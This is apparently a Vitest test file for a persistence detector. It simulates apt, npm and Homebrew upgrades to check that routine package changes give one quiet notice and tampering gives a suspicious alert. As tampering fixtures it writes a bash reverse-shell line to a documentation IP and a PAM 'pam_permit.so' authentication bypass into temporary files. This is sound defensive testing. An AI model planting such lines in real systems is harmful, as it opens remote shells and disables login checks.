import { execFileSync, spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import {
  appendFileSync,
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { expect, test } from 'vitest'
import type { Finding } from '../../main/contract/alert.ts'
import type { StateEvent } from '../../main/contract/event.ts'
import { nodeRunCommand, type RunCommand } from '../../main/ports/run-command.ts'
import { createPersistenceDetector } from '../../main/probe/detectors/persistence.ts'
import { judgeOwner } from '../../main/probe/sources/state/entry-owner.ts'
import { createPersistence } from '../../main/probe/sources/state/persistence.ts'
import { lookWith } from '../fakes/looking.ts'

const put = (file: string, text: string) => {
  mkdirSync(dirname(file), { recursive: true })
  writeFileSync(file, text)
}
const folder = (name: string) => {
  const made = mkdtempSync(join(tmpdir(), `${name}-`))
  chmodSync(made, 0o755)
  return made
}

/** What the user is told when these events come and nothing else happens for half an hour. */
const told = (events: readonly StateEvent[]): Finding[] => {
  const detector = createPersistenceDetector()
  const findings = events.flatMap((e) => detector.onEvent(e))
  const start = Date.now()
  for (let s = 0; s < 1800; s += 10) findings.push(...(detector.onTick?.(start + s * 1000) ?? []))
  return findings
}

const packages = Array.from({ length: 12 }, (_, i) => `office-part-${i}`)
/** A package as Debian's are: a service, a timer, a cron job, an autostart entry, and one of PAM, udev, APT or the shell. */
const filesOf = (name: string, i: number, version: string): Record<string, string> => ({
  [`usr/lib/systemd/system/${name}.service`]: `[Service]\nExecStart=/usr/bin/${name} --v ${version}\n`,
  [`usr/lib/systemd/system/${name}.timer`]: `[Timer]\nOnCalendar=daily\n# ${version}\n`,
  [`etc/cron.d/${name}`]: `0 3 * * * root /usr/bin/${name} # ${version}\n`,
  [`etc/xdg/autostart/${name}.desktop`]: `[Desktop Entry]\nExec=/usr/bin/${name}\n# ${version}\n`,
  ...[
    { [`etc/pam.d/${name}`]: `auth required pam_unix.so # ${version}\n` },
    { [`usr/lib/udev/rules.d/90-${name}.rules`]: `# ${version}\n` },
    { [`etc/apt/apt.conf.d/90${name}`]: `// ${version}\n` },
    { [`etc/profile.d/${name}.sh`]: `# ${version}\n` },
  ][i % 4],
})

const hasApt =
  ['/usr/bin/apt-get', '/usr/bin/dpkg-deb'].every((f) => existsSync(f)) && process.getuid?.() === 0

test.skipIf(!hasApt)(
  'a real apt upgrade of twelve packages is one notice',
  async () => {
    const [root, repository, work] = [folder('root'), folder('repository'), folder('work')]
    const publish = (version: string) => {
      rmSync(repository, { recursive: true })
      const index = packages.map((name, i) => {
        const tree = join(work, `${name}-${version}`)
        for (const [path, text] of Object.entries(filesOf(name, i, version))) put(join(tree, path), text)
        const control = `Package: ${name}\nVersion: ${version}\nArchitecture: all\nMaintainer: Test <test@example.jp>\nDescription: made up\n`
        put(join(tree, 'DEBIAN/control'), control)
        // As Debian has it: what lies in /etc is the administrator's to change.
        const settings = Object.keys(filesOf(name, i, version)).filter((path) => path.startsWith('etc/'))
        put(join(tree, 'DEBIAN/conffiles'), settings.map((path) => `/${path}\n`).join(''))
        mkdirSync(repository, { recursive: true })
        const file = join(repository, `${name}.deb`)
        execFileSync('dpkg-deb', ['--root-owner-group', '-Znone', '--build', tree, file], { stdio: 'pipe' })
        const bytes = readFileSync(file)
        const sum = createHash('sha256').update(bytes).digest('hex')
        return `${control}Filename: ./${name}.deb\nSize: ${bytes.length}\nSHA256: ${sum}\n`
      })
      writeFileSync(join(repository, 'Packages'), index.join('\n'))
    }
    const admin = join(root, 'var/lib/dpkg')
    put(join(admin, 'status'), '')
    for (const path of ['var/lib/dpkg/info', 'var/lib/dpkg/updates', 'etc/apt/preferences.d', 'var/log/apt'])
      mkdirSync(join(root, path), { recursive: true })
    for (const path of ['var/lib/apt/lists/partial', 'var/cache/apt/archives/partial'])
      mkdirSync(join(root, path), { recursive: true })
    put(join(work, 'sources.list'), `deb [trusted=yes] file:${repository} ./\n`)
    const options = {
      'Dir::State': join(root, 'var/lib/apt'),
      'Dir::State::status': join(admin, 'status'),
      'Dir::Cache': join(root, 'var/cache/apt'),
      'Dir::Log': join(root, 'var/log/apt'),
      'Dir::Etc::sourcelist': join(work, 'sources.list'),
      'Dir::Etc::sourceparts': '-',
      'APT::Sandbox::User': 'root',
      'DPkg::Options::': `--root=${root}`,
      // Hooks of the machine have no business here.
      'DPkg::Post-Invoke': '',
    }
    const apt = (...args: string[]) => {
      const set = Object.entries(options).flatMap(([name, value]) => ['-o', `${name}=${value}`])
      const end = spawnSync('apt-get', ['-qq', '-y', ...set, ...args], { encoding: 'utf8' })
      if (end.status !== 0) throw new Error(`apt-get ${args.join(' ')}: ${end.stderr}${end.stdout}`)
    }
    publish('1.0')
    apt('update')
    apt('install', ...packages)
    const { look } = await lookWith(createPersistence({ platform: 'linux', root }), 30_000, {
      data: join(root, 'home/sato'),
    })
    expect(await look()).toEqual([])

    publish('1.1')
    apt('update')
    apt('upgrade')
    const events = await look()
    // Whom the files belong to is asked as ever, only of this root's list of packages.
    const run: RunCommand = {
      ...nodeRunCommand,
      run: (file, args, limits) => nodeRunCommand.run(file, [`--admindir=${admin}`, ...args], limits),
    }
    const judge = (seen: readonly StateEvent[]) =>
      Promise.all(
        seen.map(async (e) => ({
          ...e,
          details: { ...e.details, ...(await judgeOwner(run, 'linux', e.details, { root })) },
        })),
      )
    const judged = await judge(events)
    expect(new Set(judged.map((e) => e.details.row))).toEqual(new Set([34, 36, 37, 39, 41, 44, 45]))
    expect(judged.every((e) => e.action === 'changed' && e.details.trust === 'trusted')).toBe(true)
    expect(told(judged)).toMatchObject([
      { kind: 'autostart-changed', severity: 'notice', facts: { count: judged.length } },
    ])

    // The same change by a hand, where installers have no business, is no upgrade.
    put(join(root, 'etc/pam.d/by-hand'), 'auth sufficient pam_permit.so\n')
    expect(told(await judge(await look())).map((f) => f.kind)).toEqual(['autostart-suspicious'])

    // Nor is one in a package's own file: that its path is known says nothing of what stands in it.
    appendFileSync(join(root, 'etc/pam.d/office-part-0'), 'auth sufficient pam_permit.so\n')
    appendFileSync(join(root, 'etc/profile.d/office-part-3.sh'), 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n')
    appendFileSync(join(root, 'usr/lib/systemd/system/office-part-1.service'), 'ExecStart=/tmp/x\n')
    const tampered = await judge(await look())
    expect(tampered.map((e) => [e.subject, e.details.trust, e.details.owner])).toEqual([
      ['/usr/lib/systemd/system/office-part-1.service', 'none', 'package office-part-1, changed since'],
      ['/etc/profile.d/office-part-3.sh', 'none', 'package office-part-3, changed since'],
      ['/etc/pam.d/office-part-0', 'none', 'package office-part-0, changed since'],
    ])
    expect(told(tampered).map((f) => f.kind)).toEqual(Array(3).fill('autostart-suspicious'))

    // An administrator who sets the hour of a job is told quietly.
    put(join(root, 'etc/cron.d/office-part-2'), '0 5 * * * root /usr/bin/office-part-2\n')
    expect(told(await judge(await look())).map((f) => f.kind)).toEqual(['autostart-changed'])

    // A unit that is switched on is a link to what its package brought.
    const wants = join(root, 'etc/systemd/system/multi-user.target.wants')
    mkdirSync(wants, { recursive: true })
    symlinkSync('/usr/lib/systemd/system/office-part-5.service', join(wants, 'office-part-5.service'))
    symlinkSync(
      join(root, 'usr/lib/systemd/system/office-part-6.service'),
      join(wants, 'office-part-6.service'),
    )
    const links = await judge(await look())
    expect(links.map((e) => e.details.trust)).toEqual(['none', 'trusted'])
  },
  120_000,
)

test.skipIf(spawnSync('npm', ['--version']).status !== 0)(
  'a real npm upgrade of a global program says nothing',
  async () => {
    const [root, work] = [folder('root'), folder('work')]
    const install = (version: string) => {
      put(
        join(work, 'package.json'),
        JSON.stringify({ name: 'office-tool', version, bin: { 'office-tool': 'tool.js' } }),
      )
      put(join(work, 'tool.js'), `#!/usr/bin/env node\n// ${version}\n`)
      execFileSync('npm', ['pack', '--silent', '--pack-destination', work], { cwd: work, stdio: 'pipe' })
      execFileSync(
        'npm',
        [
          'install',
          '--global',
          '--offline',
          '--no-audit',
          '--no-fund',
          '--no-update-notifier',
          '--prefix',
          join(root, 'usr/local'),
          join(work, `office-tool-${version}.tgz`),
        ],
        { cwd: work, env: { ...process.env, npm_config_cache: join(work, 'cache') }, stdio: 'pipe' },
      )
    }
    install('1.0.0')
    const { look } = await lookWith(createPersistence({ platform: 'linux', root }), 30_000, {
      data: join(root, 'home/sato'),
    })
    install('1.1.0')
    expect(readFileSync(join(root, 'usr/local/bin/office-tool'), 'utf8')).toContain('1.1.0')
    expect(told(await look())).toEqual([])
  },
  60_000,
)

test.skipIf(process.platform === 'win32')('a brew upgrade of eight services is one notice', async () => {
  // As `brew services restart` leaves them (Homebrew's manual): one property list a service in the user's folder.
  const root = folder('root')
  const services = ['dnsmasq', 'mariadb', 'nginx', 'ollama', 'php', 'postgresql@16', 'redis', 'unbound']
  const write = (version: string) => {
    for (const name of services)
      put(
        join(root, `Users/sato/Library/LaunchAgents/homebrew.mxcl.${name}.plist`),
        `<plist version="1.0"><dict><key>Label</key><string>homebrew.mxcl.${name}</string><key>ProgramArguments</key><array><string>/opt/homebrew/Cellar/${name}/${version}/bin/${name}</string></array><key>RunAtLoad</key><true/></dict></plist>\n`,
      )
  }
  write('1.0')
  const { look } = await lookWith(createPersistence({ platform: 'darwin', root }), 30_000, {
    data: join(root, 'Users/sato'),
  })
  write('1.1')
  expect(told(await look())).toMatchObject([
    { kind: 'autostart-changed', severity: 'notice', facts: { count: services.length } },
  ])
})
